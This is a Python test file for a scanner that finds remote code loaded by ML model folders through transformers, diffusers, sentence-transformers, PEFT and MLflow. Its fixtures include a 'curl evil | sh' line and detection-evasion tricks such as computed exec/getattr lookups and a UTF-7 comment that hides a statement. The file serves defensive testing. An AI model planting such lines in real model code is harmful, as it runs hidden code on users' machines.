"""Remote code transformers may import from a folder: auto_map of every config it reads, custom_pipelines,
the relative-import closure of each module, code in other repositories, configs not fully searched.

The closure is checked against transformers' own dynamic_module_utils when the fixture venv has it."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from builders import safetensors_file
from conftest import ROOT

import aitrail.analyze.security as S

FIXTUREGEN = ROOT / "benchmarks" / "work" / "fixturegen" / "bin" / "python"


def _rules(report: dict) -> set[tuple[str, str, str]]:
    return {(f["path"], x["rule"], x["severity"]) for f in report["files"] for x in f["findings"]}


def _model(folder: Path, config: dict, **modules: str) -> Path:
    safetensors_file(folder / "model.safetensors")
    (folder / "config.json").write_text(json.dumps({"model_type": "x", **config}))
    for name, src in modules.items():
        p = folder / f"{name.replace('.', '/')}.py"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(src)
    return folder


AUTO = {"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}


def test_a_module_reached_only_by_relative_imports_is_reviewed(tmp_path):
    """R1: modeling_x imports .helper, helper imports .deep: transformers copies and imports both."""
    _model(
        tmp_path,
        AUTO,
        configuration_x="class XConfig: pass\n",
        modeling_x="from .helper import setup\nclass XModel: pass\n",
        helper="from .deep import x\ndef setup(): pass\n",
        deep="import os\nos.system('curl evil | sh')\nx = 1\n",
        unrelated="import os\nos.system('ls')\n",
    )
    found = _rules(S.scan(tmp_path))
    assert ("deep.py", "remote-code.risky-call", "high") in found
    assert ("helper.py", "remote-code.present", "medium") in found
    assert not any(p == "unrelated.py" for p, _, _ in found)  # never imported: not remote code


def test_python_relative_imports_transformers_does_not_copy_are_reviewed_too(tmp_path):
    """`from . import helper` (Python imports helper.py; transformers' regex misses it) and a package."""
    _model(
        tmp_path,
        AUTO,
        configuration_x="class XConfig: pass\n",
        modeling_x="from . import helper\nfrom .pkg.sub import y\nclass XModel: pass\n",
        helper="import subprocess as sp\nsp.Popen(['id'])\n",
        **{"pkg.sub": "import os\nos.system('id')\ny = 1\n"},
    )
    found = _rules(S.scan(tmp_path))
    assert ("helper.py", "remote-code.present", "medium") in found
    assert ("pkg/sub.py", "remote-code.risky-call", "high") in found


def test_a_relative_import_of_a_missing_file_is_high(tmp_path):
    _model(
        tmp_path,
        AUTO,
        configuration_x="class XConfig: pass\n",
        modeling_x="from .helper import setup\nfrom ..outside import z\nclass XModel: pass\n",
    )
    found = S.scan(tmp_path)
    msgs = [x["message"] for f in found["files"] if f["path"] == "modeling_x.py" for x in f["findings"]]
    assert any("helper.py is not in the model folder" in m for m in msgs), msgs
    assert any("'..outside'" in m for m in msgs), msgs
    assert ("modeling_x.py", "remote-code.unreviewed-import", "high") in _rules(found)


def test_custom_pipelines_impl_is_remote_code(tmp_path):
    """R9: transformers.pipeline(model=dir, trust_remote_code=True) imports custom_pipelines[*].impl."""
    _model(
        tmp_path,
        {"custom_pipelines": {"evil-task": {"impl": "pipe.EvilPipeline", "pt": ["AutoModel"], "tf": []}}},
        pipe="import os\nos.system('id')\nclass EvilPipeline: pass\n",
    )
    found = _rules(S.scan(tmp_path))
    assert ("pipe.py", "remote-code.risky-call", "high") in found
    assert ("pipe.py", "remote-code.present", "medium") in found


@pytest.mark.parametrize(
    "auto_map",
    [
        {"AutoModel": "evilorg/evilrepo--modeling_x.XModel"},
        {"AutoImageProcessor": {"torchvision": "evilorg/evilrepo--image_x.P", "pil": "image_x.P"}},
    ],
)
def test_code_in_another_repository_is_high(tmp_path, auto_map):
    """R10: 'org/repo--module.Class' is downloaded from that repository and run: not reviewed here."""
    _model(tmp_path, {"auto_map": auto_map}, image_x="class P: pass\n")
    found = _rules(S.scan(tmp_path))
    assert ("config.json", "remote-code.external", "high") in found
    import aitrail

    inv = aitrail.scan(tmp_path)
    assert any(f.rule == "security.remote-code.external" and f.severity.value == "high" for f in inv.findings)


def test_auto_map_naming_a_module_not_in_the_folder_is_high(tmp_path):
    _model(tmp_path, AUTO, configuration_x="class XConfig: pass\n")  # modeling_x.py not downloaded
    found = S.scan(tmp_path)
    assert ("config.json", "remote-code.missing", "high") in _rules(found)
    msgs = [x["message"] for f in found["files"] for x in f["findings"] if x["rule"] == "remote-code.missing"]
    assert msgs == ["config.json: auto_map.AutoModel makes transformers import modeling_x.py, which is not in this "
                    "folder: loading fetches it from the model's repository (or fails); that code was not reviewed"]


@pytest.mark.parametrize(
    "config",
    [
        # an escaped key, braces in strings and a value over 64 KiB: a text search for the key misses these
        '{"model_type": "x", "pad": "' + "x" * (9 << 20) + '", "auto\\u005fmap": {"AutoModel": "modeling_x.X"}}',
        '{"model_type": "x", "pad": "' + "x" * (9 << 20) + '", "auto_map": {"AutoModel": "modeling_x.X", "n": "}{"}}',
        '{"model_type": "x", "pad": "' + "x" * (9 << 20) + '", "auto_map": {"AutoModel": "modeling_x.X", "n": "'
        + "y" * 70000 + '"}}',
        '{"model_type": "x", "deep": ' + "[" * 400 + "]" * 400 + ', "auto\\u005fmap": {"AutoModel": "modeling_x.X"}}',
    ],
    ids=["escaped-key", "braces-in-strings", "long-value", "deep-and-escaped"],
)
def test_auto_map_of_a_config_too_large_or_deep_to_parse_is_found_exactly(tmp_path, config):
    """R11: transformers json-loads any size and depth; the key is read as JSON reads it."""
    (tmp_path / "config.json").write_text(config)
    (tmp_path / "modeling_x.py").write_text("import os\nos.system('id')\n")
    assert (tmp_path / "modeling_x.py").resolve() in S.auto_map_files(tmp_path)
    assert json.loads(config)["auto_map"]["AutoModel"] == "modeling_x.X"  # as transformers reads it


def test_a_config_value_past_the_read_limit_is_high(tmp_path, monkeypatch):
    """R11: a config of any size is searched whole (memory-mapped); one auto_map value larger than aitrail
    reads is not 'no auto_map' but high."""
    import importlib

    monkeypatch.setattr(importlib.import_module("aitrail.analyze.security.remote_code"), "MAX_CONFIG_SEARCHED", 1 << 20)
    _model(tmp_path, {"pad": "x" * (9 << 20), "auto_map": {"AutoModel": "modeling_x.X", "n": "y" * (2 << 20)}})
    found = _rules(S.scan(tmp_path))
    assert ("config.json", "remote-code.limit-exceeded", "high") in found


def test_an_auto_map_too_deep_to_read_is_high(tmp_path):
    (tmp_path / "config.json").write_text(
        '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X", "d": ' + "[" * 300 + "]" * 300 + "}}"
    )
    found = _rules(S.scan(tmp_path))
    assert ("config.json", "remote-code.limit-exceeded", "high") in found


def test_a_plain_config_and_real_remote_code_layout_stay_quiet(tmp_path):
    """A complete remote-code folder: only the medium 'present' per module, no high."""
    _model(
        tmp_path,
        AUTO,
        configuration_x="from transformers import PretrainedConfig\nclass XConfig(PretrainedConfig): pass\n",
        modeling_x="import torch\nfrom .configuration_x import XConfig\nclass XModel(torch.nn.Module): pass\n",
    )
    found = _rules(S.scan(tmp_path))
    assert {s for _, _, s in found} == {"medium"}, found


@pytest.mark.skipif(not FIXTUREGEN.exists(), reason="benchmarks/work/fixturegen (transformers) not built here")
def test_closure_matches_transformers_dynamic_module_utils(tmp_path):
    """Differential: every file transformers' get_relative_import_files reaches is among ours."""
    _model(
        tmp_path,
        AUTO,
        configuration_x="class XConfig: pass\n",
        modeling_x="from .a import f\nfrom .b import *\nif False:\n    from .c import g  # never run: still copied\n",
        a="from .d import h\n",
        b="",
        c="",
        d="from .a import f\n",
    )
    code = (
        "import sys, json\nfrom transformers.dynamic_module_utils import get_relative_import_files\n"
        "print(json.dumps(sorted(get_relative_import_files(sys.argv[1]))))"
    )
    out = subprocess.run(
        [str(FIXTUREGEN), "-c", code, str(tmp_path / "modeling_x.py")], capture_output=True, text=True, timeout=300
    )
    assert out.returncode == 0, out.stderr[-2000:]
    theirs = {Path(p).resolve() for p in json.loads(out.stdout)}
    assert theirs == {(tmp_path / f"{m}.py").resolve() for m in "abcd"}
    assert theirs <= S.auto_map_files(tmp_path)


@pytest.mark.parametrize(
    "source",
    [
        'from os import system\nsystem("id")\n',
        'import subprocess as sp\nsp.run(["id"])\n',
        'import os as o\no.system("id")\n',
        'import os.path\nos.path.os.system("id")\n',
        'import importlib\nm = importlib.import_module("o" + "s")\nm.system("id")\n',
        'getattr(__builtins__, "ex" + "ec")("import os")\n',
        '__builtins__["ev" + "al"]("1")\n',
        'from subprocess import *\ncall(["id"])\n',
        'import os\ngetattr(os, "system")("id")\n',
        'import builtins as b\nb.exec("1")\n',
        'import sys\nsys.modules["os"].system("id")\n',
        'import sys\nsys.modules[n].system("id")\n',
        'import importlib\nimportlib.import_module("subprocess").run(["id"])\n',
        'import builtins\nbuiltins.__dict__["exec"]("1")\n',
        'globals()["__builtins__"]; globals()["eval"]("1")\n',
        'import os\nvars(os)["system"]("id")\n',
        'import functools, os\nfunctools.partial(os.system, "id")()\n',
        'import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()\n',
        'f = eval\nf("1")\n',
    ],
)
def test_risky_calls_are_found_by_name_not_spelling(tmp_path, source):
    """R23: callees resolved through the module's imports; computed lookups in modules/builtins are high."""
    _model(tmp_path, {"auto_map": {"AutoModel": "modeling_x.XModel"}}, modeling_x="class XModel: pass\n" + source)
    assert ("modeling_x.py", "remote-code.risky-call", "high") in _rules(S.scan(tmp_path))


def test_ordinary_model_code_has_no_risky_call():
    import ast

    from aitrail.analyze.security.remote_code import risky_calls

    src = (
        "import os, json, torch\nfrom torch import nn\nact = getattr(nn, name)()\np = os.path.join('a', 'b')\n"
        "cfg = json.loads(s)\nself.run()\nv = getattr(self.config, key, None)\nx = torch.load(f, weights_only=True)\n"
        "import importlib, sys\nflash = importlib.import_module('flash_attn')\nthis = sys.modules[__name__]\n"
    )
    assert risky_calls(ast.parse(src)) == []


def test_a_models_custom_generate_is_remote_code(tmp_path):
    """from_pretrained(..., trust_remote_code=True) imports custom_generate/generate.py for any architecture."""
    _model(
        tmp_path,
        {},
        **{"custom_generate.generate": "from .util import g\ndef generate(model, **kw): pass\n",
           "custom_generate.util": "import os\nos.system('id')\ng = 1\n"},
    )
    found = _rules(S.scan(tmp_path))
    assert ("custom_generate/generate.py", "remote-code.present", "medium") in found
    assert ("custom_generate/util.py", "remote-code.risky-call", "high") in found


def test_past_the_module_limit_every_python_file_is_reviewed(tmp_path, monkeypatch):
    import importlib

    monkeypatch.setattr(importlib.import_module("aitrail.analyze.security.remote_code"), "MAX_MODULES", 3)
    chain = {f"m{i}": f"from .m{i + 1} import x\nx = 1\n" for i in range(6)}
    _model(tmp_path, {"auto_map": {"AutoModel": "m0.X"}}, **chain, m6="import os\nos.system('id')\n", other="")
    assert (tmp_path / "m6.py").resolve() in S.auto_map_files(tmp_path)
    assert (tmp_path / "other.py").resolve() in S.auto_map_files(tmp_path)


def test_source_is_decoded_as_python_decodes_it(tmp_path):
    """R22: '+AAo-' is a newline in UTF-7: the 'comment' is two statements when Python imports the module."""
    _model(
        tmp_path,
        AUTO,
        configuration_x="# -*- coding: utf-8 -*-\nclass XConfig: pass\n",
        modeling_x="# -*- coding: utf-7 -*-\nclass XModel: pass\n#+AAo-import os+AAo-os.system('id')\n",
    )
    (tmp_path / "odd.py").write_text("# coding: no-such-codec\nx = 1\n")
    (tmp_path / "config.json").write_text(
        json.dumps({"model_type": "x", "auto_map": {**AUTO["auto_map"], "AutoTokenizer": "odd.T"}})
    )
    found = _rules(S.scan(tmp_path))
    assert ("modeling_x.py", "remote-code.risky-call", "high") in found
    assert ("odd.py", "remote-code.unparsable", "high") in found
    assert ("configuration_x.py", "remote-code.present", "medium") in found


@pytest.mark.parametrize("name", ["video_preprocessor_config.json", "audio_tokenizer_config.json"])
def test_every_config_transformers_reads_an_auto_map_from(tmp_path, name):
    """R32: transformers' VIDEO_PROCESSOR_NAME and AUDIO_TOKENIZER_NAME configs carry auto_map too."""
    _model(tmp_path, {}, video_x="import os\nos.system('id')\nclass V: pass\n")
    (tmp_path / name).write_text(json.dumps({"auto_map": {"AutoVideoProcessor": "video_x.V"}}))
    assert ("video_x.py", "remote-code.risky-call", "high") in _rules(S.scan(tmp_path))


@pytest.mark.skipif(not FIXTUREGEN.exists(), reason="benchmarks/work/fixturegen (transformers) not built here")
def test_every_module_transformers_runs_is_reviewed(tmp_path):
    """Differential with the real loader: AutoConfig.from_pretrained(trust_remote_code=True) on a folder whose
    modules each write a marker when run; every module that ran is one aitrail reviewed."""
    model = tmp_path / "m"
    model.mkdir()
    mark = "import pathlib, sys\npathlib.Path(sys.argv[2], pathlib.Path(__file__).stem).touch()\n"
    _model(
        model,
        AUTO,
        configuration_x=mark + "from .cfg_helper import base\nfrom transformers import PretrainedConfig\n"
        "class XConfig(PretrainedConfig):\n    model_type = 'x'\n",
        cfg_helper=mark + "from .deeper import y\nbase = 1\n",
        deeper=mark + "y = 2\n",
        modeling_x=mark,
    )
    marks = tmp_path / "marks"
    marks.mkdir()
    code = (
        "import sys\nfrom transformers import AutoConfig\n"
        "AutoConfig.from_pretrained(sys.argv[1], trust_remote_code=True)\n"
    )
    env = {"HF_HUB_OFFLINE": "1", "HF_MODULES_CACHE": str(tmp_path / "modules"), "HF_HOME": str(tmp_path / "hf"),
           "PATH": "/usr/bin:/bin"}
    out = subprocess.run(
        [str(FIXTUREGEN), "-c", code, str(model), str(marks)], capture_output=True, text=True, timeout=600, env=env
    )
    assert out.returncode == 0, out.stderr[-3000:]
    ran = {p.name for p in marks.iterdir()}
    assert ran == {"configuration_x", "cfg_helper", "deeper"}, ran
    reviewed = {p.stem for p in S.auto_map_files(model)}
    assert ran <= reviewed


def test_sentence_transformers_module_types_are_remote_code(tmp_path):
    (tmp_path / "modules.json").write_text(json.dumps([
        {"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_X", "type": "gone.Module"},
    ]))
    (tmp_path / "custom_st.py").write_text("import os\nos.system('id')\nclass Transformer: pass\n")
    found = _rules(S.scan(tmp_path))
    assert ("custom_st.py", "remote-code.risky-call", "high") in found
    assert ("modules.json", "remote-code.missing", "high") in found  # gone.py: fetched from the hub repo


@pytest.mark.skipif(not FIXTUREGEN.exists(), reason="benchmarks/work/fixturegen (sentence-transformers) not built here")
def test_the_module_sentence_transformers_runs_is_reviewed(tmp_path):
    """Differential with the real loader: SentenceTransformer(folder, trust_remote_code=True) imports the
    module a modules.json type names (it then fails on the class: the import already ran)."""
    model = tmp_path / "m"
    model.mkdir()
    (model / "modules.json").write_text(json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.T"}]))
    (model / "custom_st.py").write_text("import pathlib, sys\npathlib.Path(sys.argv[2], 'ran').touch()\n")
    code = "import sys\nfrom sentence_transformers import SentenceTransformer\n" \
           "SentenceTransformer(sys.argv[1], trust_remote_code=True, device='cpu')\n"
    env = {"HF_HUB_OFFLINE": "1", "HF_MODULES_CACHE": str(tmp_path / "modules"), "HF_HOME": str(tmp_path / "hf"),
           "PATH": "/usr/bin:/bin"}
    subprocess.run([str(FIXTUREGEN), "-c", code, str(model), str(tmp_path)], capture_output=True, timeout=600, env=env)
    assert (tmp_path / "ran").exists()
    assert (model / "custom_st.py").resolve() in S.auto_map_files(model)


def test_diffusers_custom_components_and_pipelines_are_remote_code(tmp_path):
    (tmp_path / "model_index.json").write_text(json.dumps({
        "_class_name": ["my_pipeline", "MyPipeline"], "_diffusers_version": "0.42.1",
        "unet": ["my_unet", "MyUNet"], "vae": ["diffusers", "AutoencoderKL"], "scheduler": [None, None],
    }))
    (tmp_path / "unet").mkdir()
    (tmp_path / "unet" / "my_unet.py").write_text("from .blocks import b\nclass MyUNet: pass\n")
    (tmp_path / "unet" / "blocks.py").write_text("import os\nos.system('id')\nb = 1\n")
    (tmp_path / "my_pipeline.py").write_text("import subprocess\nsubprocess.run(['id'])\nclass MyPipeline: pass\n")
    found = _rules(S.scan(tmp_path))
    assert ("unet/blocks.py", "remote-code.risky-call", "high") in found
    assert ("my_pipeline.py", "remote-code.risky-call", "high") in found
    assert not any(r == "remote-code.missing" for _, r, _ in found)  # "diffusers" is a library, not a file


@pytest.mark.skipif(not FIXTUREGEN.exists(), reason="benchmarks/work/fixturegen (diffusers) not built here")
def test_the_custom_component_diffusers_runs_is_reviewed(tmp_path):
    """Differential with the real loader: DiffusionPipeline.from_pretrained(trust_remote_code=True) imports the
    pipeline module _class_name names and the module of a custom component."""
    model = tmp_path / "m"
    (model / "unet").mkdir(parents=True)
    (model / "model_index.json").write_text(json.dumps(
        {"_class_name": ["my_pipeline", "MyPipeline"], "_diffusers_version": "0.42.1", "unet": ["my_unet", "MyUNet"]}
    ))
    mark = "import pathlib, sys\npathlib.Path(sys.argv[2], pathlib.Path(__file__).stem).touch()\n"
    (model / "my_pipeline.py").write_text(
        mark + "from diffusers import DiffusionPipeline\nclass MyPipeline(DiffusionPipeline):\n"
        "    def __init__(self, unet):\n        super().__init__()\n        self.register_modules(unet=unet)\n"
    )
    (model / "unet" / "config.json").write_text(json.dumps({"_class_name": "MyUNet"}))
    (model / "unet" / "my_unet.py").write_text(
        mark + "from diffusers import ModelMixin, ConfigMixin\nclass MyUNet(ModelMixin, ConfigMixin):\n"
        "    config_name = 'config.json'\n"
    )
    code = "import sys\nfrom diffusers import DiffusionPipeline\n" \
           "DiffusionPipeline.from_pretrained(sys.argv[1], trust_remote_code=True)\n"
    env = {"HF_HUB_OFFLINE": "1", "HF_MODULES_CACHE": str(tmp_path / "modules"), "HF_HOME": str(tmp_path / "hf"),
           "PATH": "/usr/bin:/bin"}
    out = subprocess.run([str(FIXTUREGEN), "-c", code, str(model), str(tmp_path)], capture_output=True, text=True,
                         timeout=600, env=env)
    ran = {p.name for p in tmp_path.iterdir() if p.name.startswith("my_")}
    assert ran == {"my_pipeline", "my_unet"}, out.stderr[-3000:]  # it then fails on the missing weights
    reviewed = {p.stem for p in S.auto_map_files(model)}
    assert ran <= reviewed, (ran, reviewed, out.stderr[-2000:])


def test_check_reviews_the_code_an_mlflow_model_runs(tmp_path):
    """aitrail check (the inventory scan) builds its remote-code set from auto_map_files: MLflow code included."""
    import shutil

    import aitrail

    src = Path(__file__).parent / "data" / "security" / "secreal" / "mlflow" / "custom_loader"
    shutil.copytree(src, tmp_path / "m")
    (tmp_path / "m" / "code" / "loader.py").write_text("import os\nos.system('id')\n")
    import pickle

    (tmp_path / "m" / "model.pkl").write_bytes(pickle.dumps({"w": [1.0, 2.0]}))  # data only: a model file for check
    assert (tmp_path / "m" / "code" / "loader.py").resolve() in S.auto_map_files(tmp_path / "m")
    inv = aitrail.scan(tmp_path / "m")
    assert any(f.rule == "security.remote-code.risky-call" and f.path == "code/loader.py" for f in inv.findings)
    msgs = [f.message for f in inv.findings if f.rule == "security.remote-code.present"]
    assert msgs and all("trust_remote_code" not in m for m in msgs)  # the loader here is mlflow's


def test_a_peft_adapter_importing_a_library_peft_does_not_trust_is_high(tmp_path):
    """peft/auto.py: AutoPeftModel imports auto_mapping.parent_library by name (allowlisted only since recent PEFT)."""
    safetensors_file(tmp_path / "adapter_model.safetensors")
    cfg = {"peft_type": "LORA", "base_model_name_or_path": "x", "task_type": None,
           "auto_mapping": {"base_model_class": "Evil", "parent_library": "evilpkg.models"}}
    (tmp_path / "adapter_config.json").write_text(json.dumps(cfg))
    assert ("adapter_config.json", "remote-code.config-import", "high") in _rules(S.scan(tmp_path))
    cfg["auto_mapping"] = {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}
    (tmp_path / "adapter_config.json").write_text(json.dumps(cfg))
    assert not any(r == "remote-code.config-import" for _, r, _ in _rules(S.scan(tmp_path)))


def test_relative_imports_in_a_hugging_face_cache_are_reviewed(tmp_path):
    """In a cache every file is a link into blobs/ named by its digest: the closure follows the snapshot's names."""
    from builders import hf_cache

    cfg = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}).encode()
    snap = hf_cache(tmp_path, "org/m", "b" * 40, {
        "config.json": cfg, "modeling_x.py": b"from .helper import h\nclass X: pass\n",
        "helper.py": b"import os\nos.system('id')\nh = 1\n",
    })
    assert (snap / "helper.py").resolve() in S.auto_map_files(tmp_path)
    found = _rules(S.scan(tmp_path))
    assert any(p.endswith("helper.py") and r == "remote-code.risky-call" for p, r, _ in found), found
    import aitrail

    inv = aitrail.scan(tmp_path)
    assert any(f.rule == "security.remote-code.risky-call" and f.path.endswith("helper.py") for f in inv.findings)


def test_many_relative_imports_are_read_in_linear_time(tmp_path):
    """Line numbers were counted from the start for each import (quadratic: 200,000 lines took minutes);
    they are counted from the previous match, and stay right."""
    from aitrail.analyze.security.remote_code import relative_imports

    raw = ("x = 1\n" * 10 + "from .a import b\n") * 20_000
    found = relative_imports(raw.encode(), None)
    assert len(found) == 20_000 and [f.line for f in found[:2]] == [11, 22] and found[-1].line == 220_000
